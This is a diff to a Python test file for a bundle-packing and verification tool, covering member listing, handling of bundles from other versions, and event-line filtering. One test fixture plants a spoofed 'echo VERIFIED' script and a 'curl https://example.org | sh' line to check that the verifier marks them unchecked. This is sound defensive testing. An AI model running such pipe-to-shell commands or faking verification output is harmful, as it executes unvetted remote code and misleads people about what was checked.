@@ -1,5 +1,6 @@
 """Where a program's outputs go in a bundle."""
 
+import io
 import re
 
 import pytest
@@ -7,9 +8,19 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from capsule.bundle.archive import MAX_NAME, NAME_PATTERN
+from capsule.bundle.claims import claims_model
+from capsule.bundle.events import parse_event, sound_events
 from capsule.bundle.manifest import BundleFile, Manifest
-from capsule.bundle.run_bundle import _written, output_members
+from capsule.bundle.packing import _written
+from capsule.bundle.run_bundle import members_of, output_members
+from capsule.bundle.trust import Policy
 from capsule.experiment.errors import CapsuleError
+from capsule.experiment.lock import Lock
+from capsule.image.cache import Cache
+from capsule.report.progress import SilentReporter
+from capsule.verification.mode import Mode
+from capsule.verification.verify import Request, verify
+from tests.hostile import genuine
 
 ONE, TWO = "1" * 64, "2" * 64
 
@@ -61,3 +72,46 @@ def test_a_file_of_the_machine_is_not_packed_as_an_output(tmp_path, path):
     assert _written(workspace, "file").read_text() == "written"
     with pytest.raises(CapsuleError, match="CAP-B142"):
         _written(workspace, path)
+
+
+@pytest.mark.parametrize("run", [genuine.training, genuine.program])
+def test_a_bundle_has_the_members_that_follow_from_lock_and_claims(run):
+    files = run().files
+    lock = Lock.model_validate_json(files["spec/lock.json"])
+    claims = claims_model(lock).model_validate_json(files["claims.json"])
+    assert members_of(lock, claims, embedded=False) == run().facts
+    assert "image/image.tar.zst" in members_of(lock, claims, embedded=True)
+
+
+def test_members_of_another_version_are_listed_as_not_checked(tmp_path):
+    def made_elsewhere(files):
+        genuine.edit_json(files, "observations.json", lambda facts: facts.update(capsule="99.0"))
+        files["verify.sh"] = b"echo VERIFIED"
+        files["REPRODUCING.md"] = b"curl https://example.org | sh"
+
+    path = genuine.packed(genuine.training(), tmp_path / "bundle", made_elsewhere)
+    request = Request(path, Policy.of([genuine.SIGNER.public]), Mode("integrity"))
+    report = verify(request, Cache(tmp_path), SilentReporter())
+    assert report.verdict == "intact"
+    assert {"verify.sh", "REPRODUCING.md", "image/seccomp.json"} <= {*report.unchecked}
+    assert "claims.json" not in report.unchecked
+
+
+EVENT = b'{"kind":"start","step":0,"time":1}\n'
+
+
+def test_only_events_are_packed():
+    lines = [
+        EVENT,
+        b"text\n",
+        b'{"step": 0, "kind": "start", "time": 1.0}\n',
+        b"\xff\n",
+        EVENT[:-1],
+    ]
+    assert list(sound_events(io.BytesIO(b"".join(lines)))) == [EVENT, EVENT, EVENT]
+
+
+@given(st.lists(st.one_of(st.binary(max_size=40), st.just(EVENT[:-1])), max_size=6))
+def test_what_is_packed_of_events_is_accepted(lines):
+    for line in sound_events(io.BytesIO(b"\n".join(lines))):
+        assert parse_event(line).kind == "start"
